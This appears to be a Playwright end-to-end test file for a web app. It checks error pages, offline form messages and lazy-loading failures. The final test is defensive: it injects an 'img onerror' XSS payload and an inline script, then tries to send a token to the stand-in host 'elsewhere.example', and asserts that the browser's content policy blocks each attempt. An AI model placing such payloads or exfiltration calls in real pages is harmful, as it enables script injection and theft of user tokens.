import { FUNCTIONS_PATH } from '../product/job-functions.ts'
import { expect, test } from '../product/journey.ts'

test('a page that fails shows the server’s message with buttons to go back and home, without details [PG4]', async ({
  page,
  signIn,
  browserLog,
}) => {
  const message = 'Something went wrong on our side.'
  // Only the console of the browser shows the error with its stack.
  browserLog.allow(/ApiError: Something went wrong/)
  await page.route('**/api/graphql', (route) =>
    route.fulfill({ json: [{ errors: [{ message, extensions: { code: 'INTERNAL' } }] }] }),
  )
  await signIn('member')
  const main = page.getByRole('main')
  await expect(main.getByRole('heading', { name: 'Oops! Something went wrong.' })).toBeVisible()
  await expect(main.getByText(message, { exact: true })).toBeVisible()
  await expect(main.getByRole('button')).toHaveText(['Try again', 'Go Back', 'Go Home'])
  await expect(main).not.toContainText(/ApiError|\.js:\d/)

  await page.unroute('**/api/graphql')
  await page.getByRole('button', { name: 'Go Home' }).click()
  await expect(page.getByRole('heading', { name: 'ZIP code lookup' })).toBeVisible()
})

test('the page and the typed text stay if the connection is lost before the lazy parts of the page have loaded [PG25]', async ({
  page,
  signIn,
  browserLog,
}) => {
  browserLog.allow(/Failed to load resource|Failed to fetch|failed, try|Unable to preload/)
  const blocked: string[] = []
  await page.route(/assets\/(status-item|feedback-dialog)-/, (route) => {
    blocked.push(route.request().url())
    return route.abort('internetdisconnected')
  })
  await signIn('analyst', FUNCTIONS_PATH)
  await page.getByRole('button', { name: 'Add job function' }).click()
  await page.keyboard.type('Half typed')
  await page.getByRole('button', { name: 'Give feedback' }).click()
  await expect.poll(() => new Set(blocked.map((url) => /assets\/(\w+)/.exec(url)?.[1])).size).toBe(2)
  await expect(page.getByRole('textbox', { name: 'Name of the new job function' })).toHaveValue('Half typed')
  await expect(page.getByRole('link', { name: 'Problems' })).toBeVisible()
})

const FORMS: readonly (readonly [path: string, submit: string, fields: readonly string[]])[] = [
  ['/login', 'Log In', ['Email', 'Password']],
  ['/signup', 'Next', ['Email']],
  ['/', 'Join The Waitlist', ['Email', 'First name', 'Last name']],
]
for (const [path, submit, fields] of FORMS) {
  test(`the form at ${path} shows that the connection failed until it is back [CL23]`, async ({
    page,
    browserLog,
  }) => {
    browserLog.allow(/Failed to load resource|Failed to fetch|failed, try/)
    const message = page.getByText('Could not reach Plumb. Check your connection, then try again.')
    await page.goto(path)
    const fieldOf = (label: string) => page.getByRole('main').getByLabel(new RegExp(`^${label}`))
    for (const field of fields) await fieldOf(field).fill('ada@acme.example')
    await page.context().setOffline(true)
    await page.getByRole('button', { name: submit }).click()
    await expect(message).toBeVisible()
    await page.context().setOffline(false)
    await expect(message).toHaveCount(0)
    await expect(fieldOf('Email')).toHaveValue('ada@acme.example')
  })
}

test('injected markup and scripts neither run nor send data', async ({ page, browserLog }) => {
  browserLog.allow(/Content Security Policy|TrustedHTML|TrustedScript/)
  // If a request is sent, it succeeds, as one to an attacker's server would.
  await page.route('https://elsewhere.example/**', (route) =>
    route.fulfill({
      contentType: 'image/svg+xml',
      body: '<svg xmlns="http://www.w3.org/2000/svg"/>',
      headers: { 'access-control-allow-origin': '*' },
    }),
  )
  await page.goto('/login')
  await expect(page.getByRole('heading', { name: 'Log in' })).toBeVisible()
  const outcome = await page.evaluate(async () => {
    const outcomeOf = (action: () => void) => {
      try {
        action()
        return 'done'
      } catch (error) {
        return (error as Error).name
      }
    }
    const markup = () =>
      document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="globalThis.ran = 1">')
    const inline = document.createElement('script')
    inline.append('globalThis.ran = 2')
    const foreign = document.createElement('img')
    foreign.src = 'https://elsewhere.example/?token=x'
    const loaded = new Promise((resolve) => {
      foreign.addEventListener('error', () => resolve('refused'))
      foreign.addEventListener('load', () => resolve('sent'))
    })
    const outcomes = { markup: outcomeOf(markup), script: outcomeOf(() => document.body.append(inline)) }
    document.body.append(foreign)
    const call = fetch('https://elsewhere.example/').then(
      () => 'sent',
      () => 'refused',
    )
    return { ...outcomes, image: await loaded, call: await call, ran: 'ran' in globalThis }
  })
  expect(outcome).toMatchObject({ markup: 'TypeError', image: 'refused', call: 'refused', ran: false })
})
